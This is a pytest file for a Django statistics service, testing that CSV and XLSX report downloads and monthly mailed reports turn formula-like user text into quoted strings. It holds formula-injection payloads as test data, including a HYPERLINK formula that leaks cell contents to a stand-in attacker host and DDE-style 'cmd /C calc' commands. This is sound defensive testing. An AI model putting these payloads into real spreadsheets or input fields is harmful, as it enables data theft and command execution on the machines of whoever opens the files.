"""Formula injection (CSV injection) in the files coordinators open in a
spreadsheet: text from users that starts with =, +, -, @, a tab or a carriage
return arrives as text, never as a formula, in the CSV and the XLSX, whether
downloaded from the API, from the dashboard's links, or mailed each month.
Numbers stay numbers. (The cell helper itself: tests/backend/test_spreadsheet.py.)"""

from __future__ import annotations

import csv
import io
import random
import re
from datetime import UTC, date, datetime

import pytest
import time_machine
from django.conf import settings
from django.core import mail
from openpyxl import load_workbook

from advisors.models import Municipality, Topic
from backend.spreadsheet import FORMULA_PREFIXES
from notifications import sending
from notifications.models import MessageState
from reporting.tasks import send_monthly_reports
from tests import factories
from tests.conftest import client_for
from tests.reporting.test_statistics import booking_for, local, make_people, save_bookings

NOW = datetime(2026, 7, 15, 8, 0, tzinfo=UTC)  # the last complete half year: January to June 2026
PERIOD = {"start": "2026-01-01", "end": "2026-06-30"}

# What an attacker may type where a name reaches the report, one for each prefix.
ORGANISATION = '=HYPERLINK("http://attacker.example/?leak="&A1,"Klicka")'
TOPIC = "+SUM(1+1)*cmd|' /C calc'!A0"
MUNICIPALITIES = {
    "2080": "-2+3+cmd|' /C calc'!A0",
    "2081": "@SUM(1+1)*cmd|' /C calc'!A0",
    "2082": "\t=1+1",
    "2083": "\r=1+1",
}
PAYLOADS = {ORGANISATION, TOPIC, *MUNICIPALITIES.values()}


@pytest.fixture(autouse=True)
def frozen():
    with time_machine.travel(NOW, tick=False):
        yield


@pytest.fixture
def poisoned(db):
    """Dalarna's statistics, with an advisor whose organisation is a formula, a
    topic and four municipalities whose names are too, and enough sessions in
    each that their rows carry figures."""
    for code, name in MUNICIPALITIES.items():
        Municipality.objects.filter(code=code).update(name=name)
    topic = Topic.objects.filter(is_active=True).order_by("position").first()
    Topic.objects.filter(pk=topic.pk).update(name_sv=TOPIC, name_en=TOPIC)
    topic.refresh_from_db()
    advisor = factories.AdvisorFactory(organisation=ORGANISATION)
    people = make_people(12, list(MUNICIPALITIES), rng=random.Random(1))
    save_bookings(
        [
            booking_for(advisor, person, local(date(2026, 3, 2 + i), 10), topic=topic)
            for i, person in enumerate(people)
        ],
        rng=random.Random(2),
    )
    return advisor


def csv_rows(content: bytes) -> list[list[str]]:
    return list(csv.reader(io.StringIO(content.decode("utf-8-sig"), newline="")))


def assert_csv_defused(content: bytes) -> None:
    rows = csv_rows(content)
    cells = [cell for row in rows for cell in row]
    for cell in cells:
        assert not cell.startswith(FORMULA_PREFIXES), repr(cell)
    for payload in PAYLOADS:
        assert f"'{payload}" in cells, payload
    # The figures are still numbers (or hidden, or empty).
    header, *lines = rows
    for line in lines:
        for column, cell in zip(header[6:], line[6:], strict=True):
            assert cell in ("", "<5") or float(cell) >= 0, (column, cell)


def assert_xlsx_defused(content: bytes) -> None:
    book = load_workbook(io.BytesIO(content))
    found = set()
    for sheet in book.worksheets:
        for row in sheet.iter_rows():
            for cell in row:
                assert cell.data_type != "f", (sheet.title, cell.coordinate, cell.value)
                if isinstance(cell.value, str) and cell.value.startswith((*FORMULA_PREFIXES, "\n")):
                    assert cell.data_type == "s" and cell.quotePrefix, (sheet.title, cell.coordinate)
                    found.add(cell.value)
    # XML reads a carriage return back as a line feed; the cell is text either way.
    assert found == {payload.replace("\r", "\n") for payload in PAYLOADS}


# --- The downloads ------------------------------------------------------------------------------


def test_the_api_s_csv_writes_every_formula_like_name_as_quoted_text(poisoned, coordinator):
    response = client_for(coordinator.user).get("/api/v1/statistics/regions/20/", {**PERIOD, "format": "csv"})

    assert response.status_code == 200
    assert_csv_defused(response.content)
    organisation = next(r for r in csv_rows(response.content) if r[3] == "by_advisor_organisation")
    assert organisation[4:6] == [f"'{ORGANISATION}"] * 2  # key and label
    assert b'"\'=HYPERLINK(""http://attacker.example/?leak=""&A1,""Klicka"")"' in response.content


def test_the_api_s_xlsx_stores_every_formula_like_name_as_a_string_not_a_formula(poisoned, coordinator):
    response = client_for(coordinator.user).get(
        "/api/v1/statistics/regions/20/", {**PERIOD, "format": "xlsx"}
    )

    assert response.status_code == 200
    assert_xlsx_defused(response.content)


def test_the_dashboard_s_download_links_give_the_same_defused_files(client, poisoned, coordinator):
    client.force_login(coordinator.user)
    client.cookies[settings.LANGUAGE_COOKIE_NAME] = "en"
    page = client.get("/statistics/", {"period": "half_year"}).content.decode()

    for kind, check in (("csv", assert_csv_defused), ("xlsx", assert_xlsx_defused)):
        link = re.search(rf'href="([^"]*format={kind}[^"]*)"', page).group(1).replace("&amp;", "&")
        download = client.get(link)
        assert download.status_code == 200
        check(download.content)


def test_the_monthly_mail_s_xlsx_is_defused_too(poisoned, coordinator):
    with time_machine.travel(datetime(2026, 4, 1, 4, 0, tzinfo=UTC), tick=False):  # March's report
        assert send_monthly_reports() == 1
        # The mail goes through the outbox: deliver it as the worker would.
        assert [sending.deliver(pk) for pk in sending.claim_due()] == [MessageState.SENT]

    (_name, content, _type) = mail.outbox[0].attachments[0]
    assert_xlsx_defused(content)


def test_the_figures_of_the_defused_rows_are_those_of_the_json(poisoned, coordinator):
    report = client_for(coordinator.user).get("/api/v1/statistics/regions/20/", PERIOD).json()
    rows = csv_rows(
        client_for(coordinator.user)
        .get("/api/v1/statistics/regions/20/", {**PERIOD, "format": "csv"})
        .content
    )
    header = rows[0]
    line = next(r for r in rows if r[3] == "by_advisor_organisation" and r[4] == f"'{ORGANISATION}")
    expected = next(r for r in report["by_advisor_organisation"] if r["key"] == ORGANISATION)
    assert dict(zip(header, line, strict=True))["sessions_held"] == str(expected["sessions_held"])
    assert expected["sessions_held"] == 10  # one session for each of the twelve people, rounded to 5
